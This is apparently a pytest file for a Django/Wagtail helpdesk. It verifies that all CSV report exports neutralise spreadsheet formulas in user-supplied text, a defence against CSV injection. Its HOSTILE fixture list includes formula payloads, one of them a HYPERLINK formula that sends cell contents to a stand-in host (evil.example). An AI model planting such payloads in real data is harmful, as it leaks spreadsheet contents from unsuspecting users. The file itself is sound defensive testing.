"""CSV exports never carry a spreadsheet formula from user text (CSV injection).

A cell of user text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
comes out prefixed with ``'`` (OWASP); plain text and the numbers we compute come out
as they are. Every export: the desk report, our KB reports (article helpfulness,
unanswered searches) and Wagtail's own (search terms typed by anonymous readers), and
a check that every spreadsheet export view in the admin writes through the same
neutralising method.
"""

import csv
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from portal.csv import safe_cell
from tickets.tests.factories import TicketFactory

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'="),
    ("+1", "'+"),
    ("-1+2", "'-"),
    ("@SUM(1)", "'@"),
    ("\t=1", "'\t"),
    ("\r=1", "'\r"),
]
PLAIN = ["Acme support", "1+1 = 2", "e-mail", "x@y.example"]


def table(response) -> list[list[str]]:
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize(("text", "start"), HOSTILE)
def test_safe_cell_neutralises_formulas(text, start):
    assert safe_cell(text) == "'" + text
    assert safe_cell(text).startswith(start)


@pytest.mark.parametrize("text", PLAIN)
def test_safe_cell_leaves_plain_text_and_numbers(text):
    assert safe_cell(text) == text
    assert safe_cell(-1) == -1
    assert safe_cell(-2.5) == -2.5


# --- the desk report (organization, queue and agent names are user text) -----------


@pytest.mark.django_db
@pytest.mark.parametrize("text", [text for text, _start in HOSTILE] + PLAIN)
def test_desk_report_csv_neutralises_organization_names(
    client, supervisor, alice, acme, queue, text
):
    acme.name = text
    acme.save()
    TicketFactory(requester=alice, queue=queue, organization=acme)
    client.force_login(supervisor)
    response = client.get(
        "/admin/helpdesk/reports/", {"dimension": "organization", "format": "csv"}
    )
    assert response.status_code == 200
    rows = table(response)
    expected = safe_cell(text)
    assert [row[0] for row in rows[1:]] == [expected, "Total"]
    assert rows[1][1] == "1"


# --- Wagtail report exports ---------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("text", [text for text, _start in HOSTILE] + PLAIN)
def test_unanswered_searches_csv_neutralises_queries(admin_client, text):
    from kb.models import UnansweredSearch

    UnansweredSearch.objects.create(
        query_string=text, hits=3, last_searched_at=timezone.now()
    )
    response = admin_client.get(
        "/admin/reports/kb-unanswered-searches/", {"export": "csv"}
    )
    assert response.status_code == 200
    rows = table(response)
    assert [row[:2] for row in rows[1:]] == [[safe_cell(text), "3"]]


@pytest.mark.django_db
@pytest.mark.parametrize("text", [text for text, _start in HOSTILE] + PLAIN)
def test_helpfulness_csv_neutralises_titles(admin_client, make_article, text):
    from kb.models import ArticleFeedback, ArticlePage

    article = make_article("Plain title")
    ArticlePage.objects.filter(pk=article.pk).update(title=text)
    ArticleFeedback.objects.create(article=article, session_key="s1", helpful=False)
    response = admin_client.get("/admin/reports/kb-helpfulness/", {"export": "csv"})
    assert response.status_code == 200
    rows = table(response)
    assert rows[1:] == [[safe_cell(text), "0", "1", "1"]]


@pytest.mark.django_db
@pytest.mark.parametrize("text", [text for text, _start in HOSTILE] + PLAIN)
def test_wagtail_search_terms_csv_neutralises_queries(admin_client, text):
    from wagtail.contrib.search_promotions.models import Query, QueryDailyHits

    query = Query.objects.create(query_string=text)
    QueryDailyHits.objects.create(query=query, date=timezone.localdate(), hits=2)
    response = admin_client.get(
        "/admin/searchpicks/reports/search-terms/", {"export": "csv"}
    )
    assert response.status_code == 200
    rows = table(response)
    stored = Query.objects.get().query_string  # Wagtail lower-cases and trims it
    assert [row[0] for row in rows[1:]] == [safe_cell(stored)]
    assert rows[1][0].startswith("'") == stored.startswith(("=", "+", "-", "@"))


def _view_classes(resolver=None):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _view_classes(pattern)
        elif isinstance(pattern, URLPattern):
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class is not None:
                yield view_class


def test_every_spreadsheet_export_view_writes_through_safe_cell():
    exporters = {
        cls for cls in _view_classes() if issubclass(cls, SpreadsheetExportMixin)
    }
    names = {cls.__name__ for cls in exporters}
    assert {
        "HelpfulnessReportView",
        "UnansweredSearchReportView",
        "SearchTermsReportView",
        "LogEntriesView",
    } <= names
    unsafe = [
        cls.__qualname__
        for cls in exporters
        if not getattr(cls.write_csv_row, "neutralises_formulas", False)
        or cls.stream_csv is not SpreadsheetExportMixin.stream_csv
    ]
    assert unsafe == []
